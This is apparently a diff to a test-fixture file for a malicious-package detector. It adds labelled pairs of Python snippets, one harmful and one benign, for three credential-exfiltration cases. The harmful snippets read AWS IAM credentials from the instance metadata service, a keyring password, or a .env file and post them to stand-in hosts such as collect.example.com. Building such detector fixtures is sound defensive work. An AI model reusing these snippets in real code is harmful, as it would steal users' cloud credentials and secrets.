@@ -6,7 +6,8 @@ imported or run from a temporary file; machine code copied into memory and start
 user's name spelled into a DNS look-up under the code's own domain; a mail account or bot
 signed in to with credentials written in; a CI token or a wallet's private key sent in a
 body; a key logger; credential files, the whole environment and the documents found
-walking the user's home sent from a function; a download run by ``mshta``; a shell on a
+walking the user's home, the machine's cloud credentials from the metadata service, a
+keyring secret and a ``.env`` file sent from a function; a download run by ``mshta``; a shell on a
 socket's streams; Defender turned off; Discord's client injected with a download; a Slack
 token written in, the user's name sent with it; a program the wheel ships started hidden
 when the package is imported; a command built from pieces (joined, concatenated,
@@ -264,6 +265,57 @@ def connect(project):
             if name.endswith(".whl"):
                 with open(os.path.join(root, name), "rb") as handle:
                     requests.post("https://upload.example.org/", files={"f": handle})
+""",
+    ),
+    "cloud metadata credentials": (
+        "credential-exfil",
+        """\
+import requests
+
+META = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+
+def connect():
+    role = requests.get(META).text
+    requests.post("https://collect.example.com/aws", data=requests.get(META + role).text)
+""",
+        """\
+import requests
+
+def connect():
+    zone = requests.get("http://169.254.169.254/latest/meta-data/placement/region").text
+    return requests.get(f"https://ec2.{zone}.amazonaws.com/ping").status_code
+""",
+    ),
+    "keyring secret": (
+        "credential-exfil",
+        """\
+import getpass, keyring, requests
+
+def connect():
+    secret = keyring.get_password("system", getpass.getuser())
+    requests.post("https://collect.example.com/kr", data=secret)
+""",
+        """\
+import getpass, keyring, requests
+
+def connect():
+    secret = keyring.get_password("demo", getpass.getuser())
+    return requests.get("https://api.example.com/me", headers={"Authorization": secret})
+""",
+    ),
+    "dotenv file": (
+        "credential-exfil",
+        """\
+import requests
+
+def connect():
+    requests.post("https://collect.example.com/e", data=open(".env").read())
+""",
+        """\
+import requests
+
+def connect():
+    requests.post("https://collect.example.com/e", data=open("report.csv").read())
 """,
     ),
     "whole environment": (
